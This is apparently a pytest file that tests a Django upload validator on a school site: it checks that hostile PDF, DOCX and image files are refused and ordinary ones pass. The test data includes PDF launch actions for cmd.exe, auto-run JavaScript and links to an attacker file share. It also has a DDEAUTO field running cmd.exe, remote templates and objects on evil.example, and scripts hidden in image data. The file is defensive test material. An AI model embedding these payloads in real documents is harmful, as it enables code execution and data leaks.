"""Files that act by themselves, reach outside or hide a web page: each refused for its reason.

One hostile file of each kind is here (PDF auto-opening a web address,
``/GoToR`` to a ``\\\\host\\share`` path, ``/SubmitForm``; DOCX with an embedded
OLE program or a remote template; HTML after the first kilobyte of a PDF),
each with its own message, and beside them the ordinary files a school sends
(a plain PDF, a PDF or Word file with a web link, photos) that must still pass.
"""

import io

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation
from pypdf import PdfReader

from case_files import docx_parts, pdf_actions, validation
from case_files.web_content import (
    ALL_MARKERS,
    ELEMENT_MARKERS,
    WebContentScanner,
    has_web_content,
)
from tests.case_files import samples

JS_ACTION = "<< /S /JavaScript /JS (app.alert(1)) >>"
FIELD_DOC = "word/document.xml"


def refusal(data: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        validation.validate_bytes(data)
    return caught.value.code


# One of each kind -----------------------------------------------------------------------

HOSTILE_FILES = samples.hostile_files()


@pytest.mark.parametrize(("name", "data", "code"), HOSTILE_FILES, ids=[f[0] for f in HOSTILE_FILES])
def test_hostile_file_is_refused_with_its_own_reason(name, data, code):
    assert refusal(data) == code, name


def test_each_hostile_file_gets_a_different_message_in_vietnamese():
    with translation.override("vi"):
        shown = {str(validation.MESSAGES[code]) for _name, _data, code in HOSTILE_FILES}
    assert len(shown) == len(HOSTILE_FILES)


def test_every_reason_the_checks_can_give_has_a_message():
    codes = {
        *pdf_actions.PRIORITY,
        pdf_actions.DAMAGED,
        pdf_actions.ENCRYPTED,
        *docx_parts.PRIORITY,
        docx_parts.DAMAGED,
        "web_content",
    }
    assert codes <= set(validation.MESSAGES)


# PDF ---------------------------------------------------------------------------------------

PDF_REFUSALS = [
    ("script in the open action", samples.pdf(javascript="app.alert(1)"), "pdf_script"),
    (
        "hex-escaped JavaScript name",
        samples.raw_pdf("/OpenAction << /S /#4Aava#53cript /JS (app.alert(1)) >> "),
        "pdf_script",
    ),
    ("script in a clicked link", samples.link_pdf(JS_ACTION), "pdf_script"),
    (
        "javascript: address in a link",
        samples.link_pdf("<< /S /URI /URI (javascript:app.alert(1)) >>"),
        "pdf_script",
    ),
    (
        "XFA form",
        samples.raw_pdf(
            "/AcroForm << /Fields [] /XFA [(x) 4 0 R] >> ",
            extra=("<< /Length 0 >>\nstream\n\nendstream",),
        ),
        "pdf_script",
    ),
    ("RichMedia", samples.link_pdf("<< /S /RichMediaExecute /TA 4 0 R >>"), "pdf_script"),
    ("launch in a link", samples.link_pdf("<< /S /Launch /F (cmd.exe) >>"), "pdf_launch"),
    (
        "GoToE",
        samples.link_pdf("<< /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>"),
        "pdf_remote",
    ),
    ("ImportData", samples.link_pdf("<< /S /ImportData /F (du-lieu.fdf) >>"), "pdf_remote"),
    (
        "link to a file share",
        samples.link_pdf(r"<< /S /URI /URI (file://attacker/share/x.exe) >>"),
        "pdf_remote",
    ),
    (
        "reset that submits next",
        samples.link_pdf(
            "<< /S /ResetForm /Next << /S /SubmitForm "
            "/F << /FS /URL /F (https://e.example) >> >> >>"
        ),
        "pdf_submit",
    ),
    (
        "embedded files",
        samples.raw_pdf(
            "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> ",
            extra=(
                "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ),
        ),
        "pdf_embedded",
    ),
    (
        "open action that goes on to a web address",
        samples.raw_pdf(
            "/OpenAction << /S /GoTo /D [3 0 R /Fit] "
            "/Next << /S /URI /URI (https://e.example) >> >> "
        ),
        "pdf_auto_uri",
    ),
    (
        "open action other than go-to",
        samples.raw_pdf("/OpenAction << /S /Named /N /Print >> "),
        "pdf_auto_action",
    ),
    (
        "additional action on the catalog",
        samples.raw_pdf("/AA << /WC << /S /Named /N /Print >> >> "),
        "pdf_auto_action",
    ),
    (
        "additional action on a page",
        samples.raw_pdf(page_extra="/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> "),
        "pdf_auto_action",
    ),
    (
        "additional action on a link annotation",
        samples.raw_pdf(
            page_extra="/Annots [4 0 R] ",
            extra=(
                "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                "/AA << /E << /S /URI /URI (https://e.example) >> >> >>",
            ),
        ),
        "pdf_auto_uri",
    ),
    (
        "additional action on a form field",
        samples.raw_pdf(
            "/AcroForm << /Fields [4 0 R] >> ",
            "/Annots [4 0 R] ",
            extra=(
                "<< /Type /Annot /Subtype /Widget /FT /Tx /T (ten) /Rect [0 0 9 9] "
                "/AA << /K << /S /Named /N /NextPage >> >> >>",
            ),
        ),
        "pdf_auto_action",
    ),
    (
        "script hidden in a compressed object stream",
        samples.object_stream_pdf("/OpenAction 5 0 R ", extra=(JS_ACTION,)),
        "pdf_script",
    ),
    (
        "escaped launch hidden in a compressed object stream",
        samples.object_stream_pdf("/OpenAction << /S /L#61unch /F (cmd.exe) >> "),
        "pdf_launch",
    ),
    (
        "script added by an incremental update",
        samples.updated_pdf(
            samples.raw_pdf(), f"<< /Type /Catalog /Pages 2 0 R /OpenAction {JS_ACTION} >>"
        ),
        "pdf_script",
    ),
    (
        "launch left in the revision an update replaced",
        samples.updated_pdf(
            samples.raw_pdf("/OpenAction << /S /Launch /F (cmd.exe) >> "),
            "<< /Type /Catalog /Pages 2 0 R >>",
        ),
        "pdf_launch",
    ),
]


@pytest.mark.parametrize(("name", "data", "code"), PDF_REFUSALS, ids=[r[0] for r in PDF_REFUSALS])
def test_pdf_that_acts_or_reaches_out_is_refused(name, data, code):
    assert refusal(data) == code, name


def test_object_stream_hides_the_script_from_a_plain_byte_search_but_not_from_either_layer():
    data = samples.object_stream_pdf("/OpenAction 5 0 R ", extra=(JS_ACTION,))
    assert b"JavaScript" not in data
    assert "pdf_script" in pdf_actions.raw_codes(data)
    assert "pdf_script" in pdf_actions.parsed_codes(data)


def test_only_the_raw_layer_sees_a_revision_an_update_replaced():
    data = samples.updated_pdf(
        samples.raw_pdf("/OpenAction << /S /Launch /F (cmd.exe) >> "),
        "<< /Type /Catalog /Pages 2 0 R >>",
    )
    assert pdf_actions.parsed_codes(data) == set()
    assert pdf_actions.raw_codes(data) == {"pdf_launch"}


def test_the_parser_finds_an_orphan_object_nothing_refers_to():
    data = samples.object_stream_pdf("", extra=(JS_ACTION,))
    assert "pdf_script" in pdf_actions.parsed_codes(data)


PDF_ACCEPTED = [
    ("plain PDF", samples.pdf()),
    ("plain PDF in an object stream", samples.object_stream_pdf("")),
    ("clicked web link", samples.link_pdf("<< /S /URI /URI (https://moet.gov.vn/) >>")),
    ("clicked e-mail link", samples.link_pdf("<< /S /URI /URI (mailto:ctxh@truong.edu.vn) >>")),
    ("clicked link inside the document", samples.link_pdf("<< /S /GoTo /D [3 0 R /Fit] >>")),
    ("opens at a page", samples.raw_pdf("/OpenAction [3 0 R /FitH 200] ")),
    ("opens with a go-to", samples.raw_pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] >> ")),
    (
        "a clicked reset button",
        samples.raw_pdf(
            "/AcroForm << /Fields [4 0 R] >> ",
            "/Annots [4 0 R] ",
            extra=(
                "<< /Type /Annot /Subtype /Widget /FT /Btn /T (xoa) /Rect [0 0 9 9] "
                "/A << /S /ResetForm >> >>",
            ),
        ),
    ),
]


@pytest.mark.parametrize(("name", "data"), PDF_ACCEPTED, ids=[a[0] for a in PDF_ACCEPTED])
def test_ordinary_pdf_is_accepted_byte_for_byte(name, data):
    checked = validation.validate_bytes(data)
    assert checked.data == data
    assert checked.content_type == "application/pdf"


def test_pdf_whose_object_stream_uses_a_rare_decoder_is_refused_as_damaged():
    data = samples.object_stream_pdf("").replace(b"/Filter /FlateDecode", b"/Filter /LZWDecode")
    assert "pdf_damaged" in pdf_actions.raw_codes(data)
    assert refusal(data) == "pdf_damaged"


# DOCX ----------------------------------------------------------------------------------------

DOCX_REFUSALS = [
    (
        "embedded OLE object without a relationship",
        samples.docx({"word/embeddings/oleObject1.bin": samples.OLE}),
        "docx_ole",
    ),
    (
        "OLE object dressed as a picture",
        samples.docx({"word/media/image1.png": samples.OLE}),
        "docx_ole",
    ),
    ("stray .bin part", samples.docx({"word/data.bin": b"\x00" * 64}), "docx_ole"),
    (
        "embedded workbook",
        samples.docx(
            {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": samples.zip_of({"a": b"x"})}
        ),
        "docx_ole",
    ),
    (
        "template on a network share",
        samples.docx_with_rels("settings.xml", ("attachedTemplate", r"\\attacker\s\m.dotm", True)),
        "docx_template",
    ),
    (
        "external frame",
        samples.docx_with_rels("webSettings.xml", ("frame", "https://evil.example/f.html", True)),
        "docx_external",
    ),
    (
        "external sub-document",
        samples.docx_with_rels("document.xml", ("subDocument", r"\\attacker\s\a.docx", True)),
        "docx_external",
    ),
    (
        "external OLE object (mhtml)",
        samples.docx_with_rels(
            "document.xml", ("oleObject", "mhtml:https://evil.example/x.html!x-usc:x", True)
        ),
        "docx_external",
    ),
    (
        "linked picture fetched on opening",
        samples.docx_with_rels("document.xml", ("image", "https://evil.example/pixel.png", True)),
        "docx_external",
    ),
    (
        "INCLUDEPICTURE from a network share",
        samples.docx(
            {FIELD_DOC: samples.document_with_fields(r'INCLUDEPICTURE "\\\\attacker\\s\\a.png" \d')}
        ),
        "docx_external",
    ),
    (
        "hyperlink to a file on a share",
        samples.docx_with_rels("document.xml", ("hyperlink", "file://attacker/s/x.exe", True)),
        "docx_link",
    ),
    (
        "hyperlink to a script",
        samples.docx_with_rels("document.xml", ("hyperlink", "javascript:alert(1)", True)),
        "docx_link",
    ),
    (
        "DDEAUTO field split over runs",
        samples.docx(
            {
                FIELD_DOC: samples.document_with_fields(
                    r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'
                )
            }
        ),
        "docx_dde",
    ),
    (
        "ActiveX control relationship",
        samples.docx_with_rels("document.xml", ("control", "activeX/activeX1.xml", False)),
        "docx_macros",
    ),
    (
        "macros (kept from before)",
        samples.docx({"word/vbaProject.bin": samples.OLE}),
        "docx_macros",
    ),
    (
        "HTML chunk inside the document",
        samples.docx({"word/afchunk.htm": b"<html><body><script>x()</script></body></html>"}),
        "web_content",
    ),
    (
        "SVG picture with a script",
        samples.docx({"word/media/image1.svg": samples.SVG_WITH_SCRIPT}),
        "web_content",
    ),
    (
        "relationships with a DTD",
        samples.docx(
            {
                "word/_rels/document.xml.rels": (
                    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "b">]><Relationships/>'
                )
            }
        ),
        "docx_damaged",
    ),
]


@pytest.mark.parametrize(("name", "data", "code"), DOCX_REFUSALS, ids=[r[0] for r in DOCX_REFUSALS])
def test_docx_that_embeds_fetches_or_runs_is_refused(name, data, code):
    assert refusal(data) == code, name


DOCX_ACCEPTED = [
    ("plain document", samples.docx()),
    (
        "web and e-mail hyperlinks",
        samples.docx_with_rels(
            "document.xml",
            ("hyperlink", "https://moet.gov.vn/", True),
            ("hyperlink", "mailto:ctxh@truong.edu.vn", True),
        ),
    ),
    (
        "the school's own template on the teacher's drive",
        samples.docx_with_rels(
            "settings.xml", ("attachedTemplate", r"file:///C:\Users\gv\Mau-bien-ban.dotx", True)
        ),
    ),
    ("plain SVG picture", samples.docx({"word/media/image1.svg": samples.SVG_PLAIN})),
    (
        "Word's printer settings",
        samples.docx({"word/printerSettings/printerSettings1.bin": b"\x00" * 300}),
    ),
    (
        "page number and table of contents fields",
        samples.docx({FIELD_DOC: samples.document_with_fields(r"PAGE \* MERGEFORMAT", r"TOC \o")}),
    ),
    (
        "a lesson that quotes javascript: and <script> as text",
        samples.docx(
            {FIELD_DOC: samples.DOCUMENT.replace(b"<w:t>", b"<w:t>javascript: &lt;script&gt; ", 1)}
        ),
    ),
]


@pytest.mark.parametrize(("name", "data"), DOCX_ACCEPTED, ids=[a[0] for a in DOCX_ACCEPTED])
def test_ordinary_docx_is_accepted_byte_for_byte(name, data):
    checked = validation.validate_bytes(data)
    assert checked.data == data
    assert checked.extension == "docx"


@pytest.mark.parametrize(
    ("target", "local"),
    [
        (r"C:\Users\gv\Mau.dotx", True),
        ("file:///C:/Users/gv/Mau.dotx", True),
        ("anh/a.png", True),
        (r"\\attacker\share\m.dotm", False),
        ("//attacker/share/m.dotm", False),
        ("file://attacker/share/m.dotm", False),
        ("https://evil.example/m.dotm", False),
    ],
)
def test_local_path_is_the_reader_s_own_drive_only(target, local):
    assert docx_parts.is_local_path(target) is local


# Web content anywhere --------------------------------------------------------------------

WEB_REFUSALS = [
    (
        "JPEG with a script in its comment",
        samples.jpeg_with_comment(b"x" * 1500 + b"<script>x()</script>"),
    ),
    (
        "PNG with an iframe in a text chunk",
        samples.png_with_text_chunk("x" * 1500 + "<iframe src=//e>"),
    ),
    ("JPEG with a page appended", samples.jpeg() + b"\n" * 1200 + b"<html><body>x</body></html>"),
    ("PDF with a page after %%EOF", samples.pdf() + b"<svg onload=alert(1)>\n"),
]


@pytest.mark.parametrize(("name", "data"), WEB_REFUSALS, ids=[r[0] for r in WEB_REFUSALS])
def test_web_content_past_the_first_kilobyte_is_refused(name, data):
    assert refusal(data) == "web_content", name


@pytest.mark.parametrize("marker", [b"<script>", b"<iframe src=x>", b"javascript:", b"<?php "])
def test_a_marker_split_across_any_window_boundary_is_found(marker):
    chunk = 64
    for offset in range(chunk - len(marker), chunk + 1):
        data = b"a" * offset + marker + b"b" * 3 * chunk
        assert has_web_content(data, chunk=chunk), offset
        scanner = WebContentScanner()
        pieces = [data[i : i + chunk] for i in range(0, len(data), chunk)]
        assert scanner.feed_all(pieces), offset


def test_svg_event_handler_far_from_its_tag_is_found_across_chunks():
    data = b"<svg width='1'" + b" " * 900 + b" onload=alert(1)></svg>"
    scanner = WebContentScanner(ELEMENT_MARKERS)
    assert scanner.feed_all(data[i : i + 100] for i in range(0, len(data), 100))
    assert not WebContentScanner(ELEMENT_MARKERS).feed_all([samples.SVG_PLAIN])


def test_markers_are_not_found_in_ordinary_files():
    for data in (samples.pdf(), samples.jpeg(), samples.png_with_text(), samples.SVG_PLAIN):
        assert not has_web_content(data, ALL_MARKERS)


def test_element_markers_leave_words_in_a_document_alone():
    text = b"<w:t>Bai hoc: javascript: va the body</w:t><w:body>"
    assert not ELEMENT_MARKERS.search(text)
    assert ALL_MARKERS.search(text)


def test_a_pdf_printed_by_the_site_itself_with_web_mail_and_inner_links_is_accepted():
    # A real producer's output (WeasyPrint, which prints the case records): link
    # annotations with /URI and /GoTo, compressed streams, XMP metadata.
    from weasyprint import HTML

    html = (
        '<h1 id="dau">Biên bản họp</h1><p><a href="https://moet.gov.vn/">Bộ GD&amp;ĐT</a> '
        '<a href="mailto:ctxh@truong.edu.vn">thư</a> <a href="#dau">lên đầu</a></p>'
    )
    data = HTML(string=html).write_pdf(pdf_variant="pdf/a-3b")
    annotations = PdfReader(io.BytesIO(data)).pages[0]["/Annots"]
    actions = {str(a.get_object()["/A"]["/S"]) for a in annotations if "/A" in a.get_object()}
    assert "/URI" in actions

    assert validation.validate_bytes(data).data == data
